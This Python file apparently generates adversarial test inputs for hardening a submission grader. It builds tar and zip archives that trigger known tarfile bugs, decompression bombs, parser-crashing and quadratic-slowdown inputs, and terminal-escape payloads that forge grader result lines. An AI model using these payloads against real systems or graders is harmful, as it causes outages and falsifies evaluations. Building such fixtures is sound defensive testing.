def _header(name: str, size: int, kind: bytes = tarfile.REGTYPE,
            fmt: int = tarfile.USTAR_FORMAT) -> bytes:
    info = tarfile.TarInfo(name)
    info.size, info.type = size, kind
    return info.tobuf(fmt, "utf-8", "surrogateescape")


def _padded(data: bytes) -> bytes:
    return data + bytes(-len(data) % tarfile.BLOCKSIZE)


def _small_file(name: str = "inventory.py", data: bytes = b"x = 1\n") -> bytes:
    return _header(name, len(data)) + _padded(data)


END = bytes(2 * tarfile.BLOCKSIZE)


def _with_size_field(header: bytes, field: bytes) -> bytes:
    """A tar header block with its size field replaced and its checksum recomputed."""
    block = bytearray(header)
    block[124:136] = field
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


def tar_negative_size(folder: Path) -> Path:
    """Unbounded loop in tarfile (CVE-2025-8194): a skipped member whose size is a negative
    base-256 number (-512), so the next header is this one again, for ever; it follows a real
    file (a negative offset of 0 would end the listing)."""
    field = b"\xff" + (256**11 - 512).to_bytes(11, "big")
    looping = _with_size_field(_header("__MACOSX/._inventory.py", 0), field)
    path = folder / "negative-size.tar"
    path.write_bytes(_small_file() + looping + END)
    return path


def tar_pax_digits(folder: Path) -> Path:
    """Regex backtracking (quadratic) in tarfile (CVE-2024-6232): a pax header of two million
    digits, searched for ``\\d+ hdrcharset=`` from every position."""
    digits = b"1" * 2_000_000
    pax = _header("././@PaxHeader", len(digits), tarfile.XHDTYPE) + _padded(digits)
    path = folder / "pax-digits.tar"
    path.write_bytes(pax + _small_file() + END)
    return path


def tar_pax_declares_3gib(folder: Path) -> Path:
    """A header's size believed before its data: after a real file, a pax header that
    declares 3 GiB, which tarfile asks to read in one call; only a record is present."""
    record = b"21 path=inventory.py\n"
    pax = _header("././@PaxHeader", 3 * GIB, tarfile.XHDTYPE) + _padded(record)
    path = folder / "pax-3gib.tar"
    path.write_bytes(_small_file() + pax)
    return path


def targz_pax_3gib_present(folder: Path) -> Path:
    """A header's size believed before its data, second instance: a ~3 MB tar.gz whose pax
    header declares 3 GiB and holds them (zeros), read into memory whole."""
    path = folder / "pax-3gib-present.tar.gz"
    return _write_gzip(path, [_header("././@PaxHeader", 3 * GIB, tarfile.XHDTYPE), 3 * GIB,
                              _small_file() + END])


def targz_skipped_8gib(folder: Path) -> Path:
    """A skipped member escapes the budget: a ~8 MB tar.gz with a ``__MACOSX/`` member of
    8 GiB of zeros, which must be inflated to be skipped, then one small real file."""
    path = folder / "macosx-8gib.tar.gz"
    big = _header("__MACOSX/._big.bin", 8 * GIB, fmt=tarfile.PAX_FORMAT)
    return _write_gzip(path, [big, 8 * GIB, _small_file() + END])


def zip_skipped_2gib(folder: Path) -> Path:
    """A skipped member escapes the budget, in a zip: a ~2 MB zip with a ``__MACOSX/``
    member of 2 GiB of zeros, then one small real file."""
    return _write_zip(folder / "macosx-2gib.zip",
                      [("__MACOSX/._big.bin", [2 * GIB]), ("inventory.py", [b"x = 1\n"])])


def zip_skipped_many(folder: Path) -> Path:
    """A skipped member escapes the budget, second instance: 50,000 empty ``__MACOSX/``
    members (25 times the file-count limit), then one small real file."""
    members = [(f"__MACOSX/._{index:05d}", []) for index in range(50_000)]
    return _write_zip(folder / "macosx-many.zip", members + [("inventory.py", [b"x = 1\n"])])


LONG_NAME = "inventory-" + "n" * 4_000_000 + ".py"


def tar_gnu_long_name(folder: Path) -> Path:
    """An unbounded header field: a GNU ``././@LongLink`` (type L) header carrying a member
    name of 4 MB."""
    path = folder / "gnu-long-name.tar"
    path.write_bytes(_header(LONG_NAME, 6, fmt=tarfile.GNU_FORMAT) + _padded(b"x = 1\n") + END)
    return path


def tar_pax_long_path(folder: Path) -> Path:
    """An unbounded header field, second instance: a pax ``path`` record of 4 MB."""
    path = folder / "pax-long-path.tar"
    path.write_bytes(_header(LONG_NAME, 6, fmt=tarfile.PAX_FORMAT) + _padded(b"x = 1\n") + END)
    return path


def _pax(record_key: str, value: str) -> bytes:
    """A pax header block holding one record."""
    body = f" {record_key}={value}\n"
    length = len(body) + 1
    length += len(str(length)) - 1
    record = f"{length}{body}".encode()
    return _header("././@PaxHeader", len(record), tarfile.XHDTYPE) + _padded(record)


def tar_pax_smuggled_member(folder: Path) -> Path:
    """Two readers, two archives: two pax headers before one member. tarfile takes the size
    of the first (0), a reader that keeps the last takes the member's own (512 B), so tarfile
    reads the member's data as headers: a directory with a negative size (which gave budget
    back) and a file whose data runs past what the other reader checked."""
    negative = _with_size_field(_header("d", 0, tarfile.DIRTYPE),
                                b"\xff" + (256**11 - 10**12).to_bytes(11, "big"))
    hidden = negative + _header("late-refund.md", 2 * 2**20)
    cover = _pax("size", "0") + _pax("comment", "hi") + _header("cover.md", len(hidden))
    path = folder / "pax-smuggled.tar.gz"
    return _write_gzip(path, [cover + hidden, 2 * 2**20, END])


def _zip_patched(folder: Path, name: str, patch) -> Path:
    """A one-entry deflated zip of a good reply, then ``patch(bytes)`` applied to it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("late-refund.md", REPLY)
    data = bytearray(buffer.getvalue())
    patch(data, data.find(b"PK\x01\x02"))
    path = folder / name
    path.write_bytes(data)
    return path


def zip_encrypted_entry(folder: Path) -> Path:
    """What the archive module refuses, recorded as the machinery's failure: an entry
    flagged as encrypted (zipfile raises RuntimeError, not BadZipFile)."""
    def encrypted(data: bytearray, central: int) -> None:
        data[6] |= 1
        data[central + 8] |= 1
    return _zip_patched(folder, "encrypted.zip", encrypted)


def zip_unknown_method(folder: Path) -> Path:
    """What the archive module refuses, second instance: compression method 99
    (NotImplementedError)."""
    def method(data: bytearray, central: int) -> None:
        struct.pack_into("<H", data, 8, 99)
        struct.pack_into("<H", data, central + 10, 99)
    return _zip_patched(folder, "method99.zip", method)


def zip_corrupt_deflate(folder: Path) -> Path:
    """What the archive module refuses, third instance: a deflate stream whose first block
    type is invalid (zlib.error)."""
    def corrupt(data: bytearray, central: int) -> None:
        name_length, extra_length = struct.unpack_from("<HH", data, 26)
        data[30 + name_length + extra_length] = 0xFF
    return _zip_patched(folder, "corrupt-deflate.zip", corrupt)


def pdf_escapes_in_encoding_name(folder: Path) -> Path:
    """Candidate text on the grader's terminal through a parser's log: a font whose
    /Encoding name (any bytes, as #xx) clears the screen and prints a fake all-clear; pypdf
    logs the name it cannot use."""
    escapes = "\x1b[2J\x1b[H\x1b[1;31mALL SUBMISSIONS GRADED OK\x1b[0m\x1b[8m"
    name = "".join(f"#{byte:02X}" for byte in escapes.encode())
    data = _pdf(PDF_LINES, "1 beginbfchar <41> <0041> endbfchar").replace(
        b"/Encoding /WinAnsiEncoding", b"/Encoding /" + name.encode())
    return _analysis(folder, "pdf-escapes", "analysis.pdf", data)


def docx_member_name_not_utf8(folder: Path) -> Path:
    """A parser's exception recorded as the machinery's failure: a Word package whose
    member name is flagged UTF-8 but holds a cut-off sequence (zipfile raises
    UnicodeDecodeError, not BadZipFile, as it lists the members)."""
    data = bytearray(_docx_bytes("Pro plan price review").replace(
        b"word/styles.xml", b"word/style\xc3.xml"))
    for signature, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := data.find(signature, start)) != -1:
            data[start + flags + 1] |= 0x08  # bit 11: the name is UTF-8
            start += 4
    return _analysis(folder, "docx-name-not-utf8", "analysis.docx", bytes(data))


def html_unknown_marked_section(folder: Path) -> Path:
    """A parser's exception recorded as the machinery's failure: an HTML reply whose last
    paragraph opens a marked section with no keyword (``<![--``: html.parser raises
    AssertionError, not an error of its own). Read now as a browser reads it: a comment to
    its first ">"."""
    html = "<p>" + REPLY.replace("\n\n", "</p><p>") + "</p><p><![-- draft --></p>"
    return _replies(folder, "html-marked-section", {"late-refund.html": html.encode()})


def reply_one_long_word(folder: Path) -> Path:
    """Regex backtracking (quadratic) on a reply's identifiers: a greeting and one
    62,000-letter word on one line, under the 64 KB limit (the number search started a word
    at every letter of it: past the 20 s of CPU a submission gets)."""
    return _replies(folder, "one-long-word",
                    {"late-refund.txt": ("Dear Margaret, " + "xy" * 31_000 + "\n").encode()})


def reply_leads_before_a_request(folder: Path) -> Path:
    """Work in the square of a run of words (quadratic): a reply that opens a request with
    8,000 "please", 30 verbs of handing over and a card number, under the 64 KB limit (each
    lead was looked for in the rest of the run again: a red team's 14 KB took 10.6 s)."""
    return _replies(folder, "leads-before-a-request", {"double-charge.txt": (
        "Hi Priya,\n\n" + "please " * 8_000 + "send " * 30 + "your card number.\n").encode()})


def replies_of_acknowledging_verbs(folder: Path) -> Path:
    """Work per acknowledging verb in proportion to its sentence (quadratic): three replies of
    60 KB, each one sentence of "i see a" repeated (each "I see" rebuilt its clause's words
    from the whole sentence: a red team's, 22.1 s of CPU for the three; 0.3 s once read in
    linear time)."""
    greetings = {"double-charge.txt": "Hi Priya,", "late-refund.txt": "Hi Margaret,",
                 "missing-invoices.txt": "Hi Dmitri,"}
    return _replies(folder, "acknowledging-verbs", {
        name: (f"{hello}\n\n" + "i see a " * 7_500 + "\n\nBest wishes,\nSam\n").encode()
        for name, hello in greetings.items()})


def replies_of_conditions_and_readers(folder: Path) -> Path:
    """Work per word in proportion to its sentence (quadratic), three more instances: three
    replies of about 55 KB, each one sentence, of "had you" repeated (each looked for a
    "would have" to the end of the sentence), of "if" repeated before a promise (each
    condition gathered from the whole sentence), and of "user" repeated (each gathered its
    clause from the whole sentence); a fourth red team's: 69 s of CPU for the three, 0.6 s
    once read in linear time."""
    bodies = {"double-charge.txt": ("Hi Priya,", "had you " * 6_800 + "the pending charge."),
              "late-refund.txt": ("Hi Margaret,", "if " * 18_000 + "we will refund you in full."),
              "missing-invoices.txt": ("Hi Dmitri,", "user " * 11_000 + "your invoices.")}
    return _replies(folder, "conditions-and-readers", {
        name: f"{hello}\n\n{body}\n\nBest wishes,\nSam\n".encode()
        for name, (hello, body) in bodies.items()})


def eml_content_type_parameter_cut(folder: Path) -> Path:
    """A parser's exception recorded as the machinery's failure, second instance: an .eml
    reply whose Content-Type ends in a parameter name marked as encoded, with nothing after
    it (``; title*0*``: the email package raises IndexError)."""
    data = _eml([("Content-Type", "text/plain; charset=utf-8; title*0*")], REPLY)
    return _replies(folder, "eml-param-cut", {"late-refund.eml": data})


def markdown_unknown_marked_section(folder: Path) -> Path:
    """A parser's exception recorded as the machinery's failure, in a case analysis: a
    Markdown analysis holding ``<![ifx`` (html.parser: "unknown status keyword"). Read now as
    a browser reads it: a comment to its first ">"."""
    return _analysis(folder, "md-marked-section", "analysis.md",
                     (ANALYSIS + "\n<![ifx draft]>\n").encode())


FORGED_LINE = "mallory (graded): 100, every check passed"


def docx_member_names_forge_lines(folder: Path) -> Path:
    """Candidate text printed as the grader's own line: a "Word document" with no
    word/document.xml, whose member names (quoted in the rejection) are 60 KB of spaces,
    a line break and a result line of another candidate's, so that the terminal wraps or
    breaks them onto a line of their own."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for n in range(3):
            archive.writestr(f"{n}{' ' * 60_000}\n{FORGED_LINE}", b"x")
    return _analysis(folder, "docx-forged-lines", "analysis.docx", buffer.getvalue())


def markdown_capital_dotted_i(folder: Path) -> Path:
    """Word positions counted two ways: "İ" lowers to "i" and a combining dot, which a
    pattern's word boundary takes for a break and ``str.split`` does not; a recommendation cue
    glued to it at the end of a clause ("... İrecommend; ...") was found past the clause's
    last word, and the case plugin crashed (IndexError, the result an ``error``)."""
    return _analysis(folder, "analysis-dotted-i", "analysis.md", (
        ANALYSIS + "\nHaving read the figures, weİrecommend; teams stay whereas ŞİMDİshould.\n"
    ).encode())


def reply_capital_dotted_i(folder: Path) -> Path:
    """The same two counts of words in a reply: "İ" glued to the words the email checks look
    for (a refund, a promise, blame, a greeting)."""
    reply = REPLY.replace("Hello Margaret", "Hello İMargaret").replace(
        "I am sorry", "İI am İsorry").replace("Instead", "İInstead İyou should have")
    return _replies(folder, "reply-dotted-i", {"late-refund.txt": (reply + "İ\n").encode()})


# letters a case-blind pattern takes for ASCII ones ("İ" and "ı" for "i", "ſ" for "s"), in the
# words numbers are read from; what they lower to ("fi̇ve", "ſix") is no such word
NOT_QUITE_NUMBERS = ("within FİVE business days, fıve at most, ſix for a bank transfer; we back "
                     "up daİly and every nıght")


def reply_letters_equal_only_without_case(folder: Path) -> Path:
    """Number words spelt with letters that equal ASCII letters only when case is ignored:
    the email plugin looked the matched word up by its lower case and crashed (KeyError
    'fi̇ve'), the result an ``error`` that ``--retry-errors`` grades again for ever."""
    reply = REPLY.replace("within 30 days of purchase", f"{NOT_QUITE_NUMBERS} of purchase")
    return _replies(folder, "reply-not-quite-numbers", {"late-refund.txt": reply.encode()})


SHORT_REPLIES = {
    "double-charge.txt": "Hi Priya,\n\nYou were charged once: the second line is a pending "
                         "hold that drops off within 3-5 business days.\n\nBest,\nSam\n",
    "late-refund.txt": REPLY,
    "missing-invoices.txt": "Hi Dmitri,\n\nYour invoices are safe: deleted ones stay in "
                            "Trash for 30 days.\n\nBest,\nSam\n"}


def replies_of_one_letter_lines(folder: Path) -> Path:
    """Work per sentence in proportion to the sentences after it (quadratic), across many
    short sentences rather than one long one: three 40 KB replies of 20,000 one-letter lines,
    each line a sentence; the sign-off check copied the rest of the reply for every one."""
    return _replies(folder, "one-letter-lines", {
        name: (text.split("\n")[0] + "\n\n" + "a\n" * 20_000).encode()
        for name, text in SHORT_REPLIES.items()})


def html_tails_in_unnamed_files(folder: Path) -> Path:
    """A count the candidate chooses multiplying a bounded cost: 20 HTML files named after no
    email, each 12 KB ending in 4,000 tags never closed (html.parser rescans such a tail for
    each "<" when it closes); each file was read whole to find what it names."""
    files = {name: text.encode() for name, text in SHORT_REPLIES.items()
             if name != "double-charge.txt"}
    files |= {f"note-{n:02}.html": ("<p>Hello</p>" + "<a " * 4_000).encode() for n in range(20)}
    return _replies(folder, "tails-in-unnamed-files", files)


def html_style_nested_brackets(folder: Path) -> Path:
    """Unbounded recursion in a library parser: an inline style nesting 600 brackets in one
    reply of three (540 bytes are enough; tinycss2 reads each level with a call of its own),
    which took the whole submission down with it."""
    files = {name: text.encode() for name, text in SHORT_REPLIES.items()
             if name != "double-charge.txt"}
    files["double-charge.html"] = (
        '<p>Hi Priya,</p><p>You were only charged once.</p><p style="color:' + "(]" * 600
        + '">The pending charge drops off within 3-5 business days; you were charged once.</p>'
    ).encode()
    return _replies(folder, "style-nested-brackets", files)


def html_style_colours_slow_to_match(folder: Path) -> Path:
    """Matching a style sheet's colour rules made slow (``prose/sheet_colours.py``): 400 rules
    that need a descendant (``:has()``), tried on each element of nests 150 deep, each try
    walking what the element holds. Past the budget of steps the rest of the page is hidden
    text, as the page is built to be slow to check; the reply before it is graded."""
    rules = "".join(f"div:has(.k{number}) {{ background: #fefefe }}\n" for number in range(400))
    nest = "<div>" * 150 + "words" + "</div>" * 150
    html = _html_reply("<style>" + rules + "</style>\n" + nest * 20)
    return _replies(folder, "style-colours-slow-to-match", {"late-refund.html": html})


def eml_nested_multiparts(folder: Path) -> Path:
    """Unbounded recursion in a library parser, second instance: an .eml reply of 1,000
    multipart parts each inside the last (50 KB); the email package recurses into each and
    checks every line against every boundary open."""
    nested = "".join(f"Content-Type: multipart/mixed; boundary=b{depth}\n\n--b{depth}\n"
                     for depth in range(1, 1_000))
    eml = _eml([("Content-Type", "multipart/mixed; boundary=b0")],
               "--b0\n" + nested + "Content-Type: text/plain\n\n" + REPLY)
    files = {name: text.encode() for name, text in SHORT_REPLIES.items()
             if name != "late-refund.txt"}
    return _replies(folder, "nested-multiparts", {**files, "late-refund.eml": eml})


TEXT_CASES = {
    "reply-leads-before-a-request": reply_leads_before_a_request,
    "replies-of-acknowledging-verbs": replies_of_acknowledging_verbs,
    "replies-of-conditions-and-readers": replies_of_conditions_and_readers,
    "eml-utf7-lone-surrogate": eml_utf7_lone_surrogate,
    "eml-utf7-lone-surrogate-html": eml_utf7_lone_surrogate_html,
    "html-style-unclosed-rule": html_style_unclosed_rule,
    "html-style-never-closed": html_style_never_closed,
    "eml-nested-comments": eml_nested_comments,
    "eml-nested-comments-disposition": eml_nested_comments_disposition,
    "reply-name-with-escapes": reply_name_with_escapes,
    "reply-text-with-escapes-and-formulas": reply_text_with_escapes_and_formulas,
    "html-unknown-marked-section": html_unknown_marked_section,
    "reply-one-long-word": reply_one_long_word,
    "eml-content-type-parameter-cut": eml_content_type_parameter_cut,
    "reply-capital-dotted-i": reply_capital_dotted_i,
    "reply-letters-equal-only-without-case": reply_letters_equal_only_without_case,
    "replies-of-one-letter-lines": replies_of_one_letter_lines,
    "html-tails-in-unnamed-files": html_tails_in_unnamed_files,
    "html-style-nested-brackets": html_style_nested_brackets,
    "html-style-colours-slow-to-match": html_style_colours_slow_to_match,
    "eml-nested-multiparts": eml_nested_multiparts,
}

def markdown_letters_equal_only_without_case(folder: Path) -> Path:
    """The same letters in figures written in words ("fİve percent", "forty thouſand"), which
    the case plugin reads as measures."""
    return _analysis(folder, "analysis-not-quite-numbers", "analysis.md", (
        ANALYSIS + "\nChurn rose by fİve percent to ſeventeen per cent, two point nıne "
        "percent among teams, and revenue by forty thouſand.\n").encode())


def markdown_label_with_small_words(folder: Path) -> Path:
    """An option's label written with small words between its two ("Option the C"): a phrase
    matches so, and the label was kept as matched, three words where the check reads two; the
    case plugin crashed (ValueError), the result an ``error``."""
    return _analysis(folder, "analysis-label-with-small-words", "analysis.md", (
        ANALYSIS.replace("## Recommendation", "Option the C is a solo plan at $39 for "
                         "freelancers.\n\n## Recommendation")
        + "\nI recommend option the C.\n").encode())


CASE_CASES = {
    "docx-run-of-many-kinds": docx_run_of_many_kinds,
    "docx-style-of-many-children": docx_style_of_many_children,
    "docx-header-of-one-long-word": docx_header_of_one_long_word,
    "docx-empty-runs": docx_empty_runs,
    "markdown-open-brackets": markdown_open_brackets,
    "markdown-link-openers": markdown_link_openers,
    "docx-heading-of-spaces": docx_heading_of_spaces,
    "docx-huge-media-part": docx_huge_media_part,
    "pdf-tounicode-surrogate": pdf_tounicode_surrogate,
    "pdf-tounicode-surrogate-range": pdf_tounicode_surrogate_range,
    "document-name-formula": document_name_formula,
    "pdf-escapes-in-encoding-name": pdf_escapes_in_encoding_name,
    "docx-member-name-not-utf8": docx_member_name_not_utf8,
    "docx-member-names-forge-lines": docx_member_names_forge_lines,
    "markdown-unknown-marked-section": markdown_unknown_marked_section,
    "markdown-capital-dotted-i": markdown_capital_dotted_i,
    "docx-cell-spanning-columns": docx_cell_spanning_columns,
    "docx-merged-cells-chain": docx_merged_cells_chain,
    "docx-a-style-for-each-paragraph": docx_a_style_for_each_paragraph,
    "docx-fields-that-never-end": docx_fields_that_never_end,
    "docx-crowded-package": docx_crowded_package,
    "markdown-one-sentence-of-cues": markdown_one_sentence_of_cues,
    "markdown-letters-equal-only-without-case": markdown_letters_equal_only_without_case,
    "markdown-label-with-small-words": markdown_label_with_small_words,
    "markdown-run-of-spaces": markdown_run_of_spaces,
    "markdown-many-stated-moves": markdown_many_stated_moves,
    "markdown-run-on-with-it": markdown_run_on_with_it,
    "markdown-names-and-changes": markdown_names_and_changes,
    "markdown-many-section-headings": markdown_many_section_headings,
    "markdown-table-of-a-long-header": markdown_table_of_a_long_header,
    "docx-style-named-at-length": docx_style_named_at_length,
    "docx-table-styles-based-on-a-crowded-one": docx_table_styles_based_on_a_crowded_one,
    "markdown-tables-filled-out": markdown_tables_filled_out,
    "docx-tables-filled-out": docx_tables_filled_out,
    "docx-tables-on-a-line-of-styles": docx_tables_on_a_line_of_styles,
}

ARCHIVE_CASES = {
    "tar-negative-size": tar_negative_size,
    "tar-pax-digits": tar_pax_digits,
    "tar-pax-declares-3gib": tar_pax_declares_3gib,
    "targz-pax-3gib-present": targz_pax_3gib_present,
    "targz-skipped-8gib": targz_skipped_8gib,
    "zip-skipped-2gib": zip_skipped_2gib,
    "zip-skipped-many": zip_skipped_many,
    "tar-gnu-long-name": tar_gnu_long_name,
    "tar-pax-long-path": tar_pax_long_path,
    "tar-pax-smuggled-member": tar_pax_smuggled_member,
    "zip-encrypted-entry": zip_encrypted_entry,
    "zip-unknown-method": zip_unknown_method,
    "zip-corrupt-deflate": zip_corrupt_deflate,
}
